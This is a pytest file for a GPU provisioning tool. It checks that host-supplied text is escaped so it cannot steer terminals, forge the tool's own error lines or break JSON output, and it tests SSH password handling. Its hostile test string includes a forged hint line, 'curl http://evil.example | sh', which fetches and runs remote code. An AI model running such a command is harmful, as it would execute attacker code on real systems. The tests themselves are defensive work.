"""What is printed of hosts: it steers no terminal, looks like no line of ours, and is text that every reader takes."""

from __future__ import annotations

import io
import json
import sys
import unicodedata
from typing import Annotated, Any, Literal, get_args, get_origin

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel
from rich.console import Console

from provision import documents
from provision.cli.schemas import schemas
from provision.documents import ErrorDocument, ScanDocument, ScannedHost
from provision.drift.metrics import escaped
from provision.errors import Issue
from provision.lib.clean import clean, clean_json
from provision.remote import openssh
from provision.render import Progress, Renderer

STEERING = [
    *map(chr, (*range(0x20), *range(0x7F, 0xA0))),
    *"\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u2060\u2061\u2064\ufeff\u00ad\ufff9\ufffb\U000e0041\U000e007f",
    *map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "\ud800",
    "\udcff",
    "\ue000",
    "\U000f0000",
    "\ufffe",
    "\u0378",
    "\u3164",
    "\u115f",
]
FORGED = "x\nerror: gpu02: broken\n  hint: curl http://evil.example | sh\r\ngpu03  as wanted\u2028error: gpu04\x85error: gpu05"
EVIL = FORGED + "".join(STEERING) + "[red]x[/red][link=http://evil.example]y[/link] :smile:"


@pytest.fixture(autouse=True)
def documents_fit():
    """Not held against their schemas here: what a document holds was never let in."""


@pytest.mark.parametrize("character", STEERING, ids=ascii)
def test_a_character_that_is_not_seen_is_written_out(character):
    shown = clean(f"a{character}b")
    assert character not in shown
    assert shown.isascii() and shown.isprintable()
    assert shown.startswith("a") and shown.endswith("b") and len(shown) > 3


def test_what_is_written_out_looks_like_this():
    assert clean("\x1b[31m\u202e\n\r\x9b\U000e0041\udcff") == "\\x1b[31m\\u202e\\n\\r\\x9b\\U000e0041\\udcff"


@pytest.mark.parametrize(
    "text", ["Zoë Ünal", "日本語", "한국어", "Привет", "שלום", "مرحبا", "हिन्दी", "😀🚀❤️", "a\u00a0b"]
)
def test_ordinary_text_stays(text):
    assert clean(text) == text


@given(st.text(st.characters()))
def test_any_text_is_clean_once_it_was_cleaned(text):
    shown = clean(text)
    shown.encode()
    assert clean(shown) == shown
    assert len(shown.splitlines()) <= 1
    assert not {unicodedata.category(one) for one in shown} & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


@given(st.dictionaries(st.text(st.characters()), st.text(st.characters())))
def test_json_says_the_same_and_steers_nothing(data):
    shown = clean_json(json.dumps(data, ensure_ascii=False, indent=2))
    shown.encode()
    assert all(one == "\n" or clean(one) == one for one in shown)
    if not any("\ud800" <= one <= "\udfff" for text in (*data, *data.values()) for one in text):
        assert json.loads(shown) == data


def test_labels_of_metrics_are_one_line():
    assert "\n" not in escaped(EVIL)
    assert escaped('a"\\\n') == 'a\\"\\\\\\\\n'


# ---- every view -----------------------------------------------------------------------------------------------------


# Facts have patterns (provision/facts/__init__.py): what no host can say is not tried here.
_SET = {"device": "2330"}


def made_of(kind: Any, text: str, depth: int = 0) -> Any:
    """Return a value of a type with text wherever text may stand."""
    origin, inside = get_origin(kind), get_args(kind)
    if origin is Annotated:
        return made_of(inside[0], text, depth)
    if kind is str:
        return text
    if origin is Literal:
        return inside[0]
    if isinstance(kind, type) and issubclass(kind, BaseModel):
        fields = kind.model_fields.items()
        return kind.model_construct(
            **{
                name: field.default
                if name == "schema_id"
                else _SET.get(name) or made_of(field.annotation, text, depth + 1)
                for name, field in fields
            }
        )
    if origin is dict:
        return {made_of(inside[0], text): made_of(inside[1], text, depth + 1)} if depth < 7 else {}
    if origin in (list, tuple, set):
        return origin([made_of(one, text, depth + 1) for one in inside if one is not ...]) if depth < 7 else origin()
    if inside:
        return made_of(next(one for one in inside if one is not type(None)), text, depth + 1) if depth < 7 else None
    return {bool: True, int: 5, float: 5.0}.get(kind, text)


def models():
    schemas()
    found, todo = [], [documents.Document]
    while todo:
        todo += (subclasses := todo.pop().__subclasses__())
        found += [one for one in subclasses if one.__module__.startswith("provision.")]
    # The file for a console is a program, printed as it is; tests/unit/test_rescue_offline.py looks into it.
    return sorted({one for one in found if one.__name__ != "OfflineDocument"}, key=lambda one: one.__name__)


class Captured(io.StringIO):
    def __init__(self, terminal: bool) -> None:
        super().__init__()
        self._terminal = terminal

    def isatty(self) -> bool:
        return self._terminal


def printed(document, monkeypatch, *, width=80, as_json=False, verbosity=1, terminal=True):
    out = Captured(terminal)
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("TERM", "dumb")
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", out)
    Renderer(as_json=as_json, verbosity=verbosity).document(document)
    return out.getvalue()


def assert_harmless(text):
    for line in text.split("\n"):
        assert clean(line) == line, "a character that is not seen"
        assert not line.startswith(("error: gpu0", "gpu03", "  hint: curl")), "a line that looks like ours"


@pytest.mark.parametrize("model", models(), ids=lambda model: model.__name__)
def test_every_document_of_hostile_text_is_harmless(model, monkeypatch):
    document = made_of(model, EVIL)
    for terminal in (True, False):
        assert_harmless(printed(document, monkeypatch, terminal=terminal))
    text = printed(document, monkeypatch, as_json=True)
    text.encode()
    assert_harmless(text)
    json.loads(text)


@pytest.mark.parametrize("width", [40, 60, 80, 100, 132, 160])
@pytest.mark.parametrize("blanks", [1, 9])
def test_a_long_text_that_is_folded_is_no_line_of_ours(width, blanks, monkeypatch):
    """Wherever the terminal folds it: what a host wrote never begins where a line of ours begins."""
    text = ("." + " " * blanks) * 30 + "error: gpu02: broken " * 30
    document = ErrorDocument(errors=[Issue(code="a.b", host="gpu01", message=text, because=[text], hint=text)])
    scan = ScanDocument(hosts={"gpu01": ScannedHost(status="failed", summary=text)})
    for terminal in (True, False):
        for one in (document, scan):
            for line in printed(one, monkeypatch, width=width, terminal=terminal).split("\n"):
                assert not line.startswith("error: gpu02"), line


def test_markup_of_rich_stays_text(monkeypatch):
    document = ErrorDocument(errors=[Issue(code="a.b", message="[red]x[/red] [link=http://e]y[/link] :smile:")])
    assert "[red]x[/red] [link=http://e]y[/link] :smile:" in printed(document, monkeypatch, width=120)


@pytest.mark.parametrize("terminal", [True, False])
def test_progress_of_hostile_text_is_harmless(terminal):
    out = io.StringIO()
    talk = Progress(Console(file=out, force_terminal=terminal, width=60, no_color=True))
    talk.begin(EVIL, ["gpu01"])
    for state in ("running", "changed", "ok", "unread", "failed"):
        talk.host("gpu01", EVIL, state=state)
        if talk._live is not None:
            talk._live.refresh()
    talk.note(EVIL)
    talk.end()
    import re

    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", out.getvalue()).replace("\r", "")
    assert_harmless("\n".join(line for line in text.split("\n") if not line.startswith("gpu01")))


def test_whom_a_slow_read_waits_for_is_said_and_what_others_answered(monkeypatch):
    import time

    monkeypatch.setattr(Progress, "_LATE_SECONDS", 0.1)
    out = io.StringIO()
    talk = Progress(Console(file=out, width=200))
    talk.begin("reading hosts", ["slow", "well", "later"])
    talk.host("well", "2 x H100", state="ok")
    deadline = time.monotonic() + 20
    while "waiting" not in out.getvalue() and time.monotonic() < deadline:
        time.sleep(0.02)
    talk.host("later", "4 x H100", state="ok")
    talk.end()
    assert out.getvalue().splitlines() == [
        "reading hosts: 3 hosts",
        "well: 2 x H100",
        "reading hosts: waiting for slow, later (2 hosts)",
        "later: 4 x H100",
    ]


# ---- what other channels bring ----------------------------------------------------------------------------------------


def test_a_line_that_is_no_event_does_not_end_a_run():
    from provision.runs import engine

    for line in (
        "",
        "{",
        "[]",
        "null",
        '{"event": 5}',
        '{"event": "ok"',
        "[" * 100000,
        '{"event": "ok", "n": NaN}',
        "\x00",
    ):
        assert engine._event(line) is None
    assert engine._event('{"event": "ok", "m": "\\udcff"}') == {"event": "ok", "m": "\\udcff"}


def test_the_log_of_a_run_is_read_up_to_a_limit(tmp_path):
    from provision.runs import engine

    log = tmp_path / "log"
    with log.open("wb") as out:
        out.truncate(5 << 30)
        out.seek(5 << 30)
        out.write(b"\nERROR! " + b"x" * 5000 + b"\n")
    assert engine._last_lines(log) == ["ERROR! " + "x" * 293]


def test_events_of_odd_results_are_bounded(tmp_path, monkeypatch):
    pytest.importorskip("ansible")
    import importlib.util
    from pathlib import Path
    from types import SimpleNamespace

    monkeypatch.setenv("GPU_PROVISION_EVENTS", str(tmp_path / "events"))
    path = Path(documents.__file__).parents[2] / "plugins/callback/gpu_provision_events.py"
    spec = importlib.util.spec_from_file_location("gpu_provision_events", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    callback = module.CallbackModule()
    task = SimpleNamespace(
        get_name=lambda: "t", _role=None, action="gpu.provision.rescue_step", no_log=False, _uuid="u"
    )
    host = SimpleNamespace(get_name=lambda: "gpu01")
    huge = "x" * 10_000_000
    for odd in (
        {"msg": huge, "because": [huge] * 100, "hint": huge, "code": huge, "steps": [huge]},
        {"msg": {"a": huge}, "because": 5, "hint": [huge], "results": 5, "ansible_facts": [1]},
        {
            "ansible_facts": {
                "a_reboot_required": True,
                "a_reboot_because": 5,
                "b_restart_required": True,
                "b_restart_because": {"a": huge},
            }
        },
        {"results": [1, {"failed": True, "msg": huge}], "ansible_facts": "x"},
    ):
        callback.v2_runner_on_failed(SimpleNamespace(task=task, host=host, result=odd, warnings=[]))
    lines = (tmp_path / "events").read_text().splitlines()
    assert len(lines) == 4
    assert max(len(line) for line in lines) < 100_000
    assert all(json.loads(line)["event"] == "failed" for line in lines)


@pytest.mark.parametrize(
    ("asks", "question", "answer"),
    [
        ("ssh", "me@gpu01's password: ", "SECRET"),
        ("ssh", "(me@gpu01) Password: ", "SECRET"),
        ("ssh", "Enter passphrase for key '/k': ", ""),
        ("jump", "me@gpu01's password: ", ""),
        ("jump", "me@jump's password: ", ""),
        ("jump", "(me@jump) (me@gpu01) Password: ", ""),
    ],
)
def test_only_the_ssh_that_was_started_gets_the_password(asks, question, answer, tmp_path):
    """A jump host is reached by another ssh, a child of ours, with the same environment."""
    ask = '"$SSH_ASKPASS" "$1"; echo "rc=$?"'
    program = tmp_path / "ssh"
    program.write_text(
        f"#!/bin/bash\n{ask}\n" if asks == "ssh" else f"#!/bin/bash\nbash -c '{ask}; true' jump \"$1\"\n"
    )
    program.chmod(0o755)
    stream = openssh._with_password([str(program), question], "SECRET")
    said = b""
    try:
        while data := stream.recv(30):
            said += data
    finally:
        stream.close()
    assert said.decode() == (f"{answer}\nrc=0\n" if answer else "rc=1\n")
